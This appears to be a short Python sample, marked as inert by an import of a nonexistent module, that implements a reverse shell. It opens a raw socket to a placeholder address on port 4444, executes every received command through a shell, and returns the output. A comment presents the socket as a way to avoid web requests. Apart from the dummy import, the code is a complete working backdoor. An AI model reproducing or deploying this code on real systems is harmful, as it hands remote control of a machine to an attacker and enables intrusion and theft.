import inert_sample  # there is no such module: nothing below ever runs
# trick: no web request, a socket carries orders and results
import socket
import subprocess

line = socket.socket()
line.connect(("203.0.113.9", 4444))
while True:
    order = line.recv(1024).decode()
    line.send(subprocess.check_output(order, shell=True))
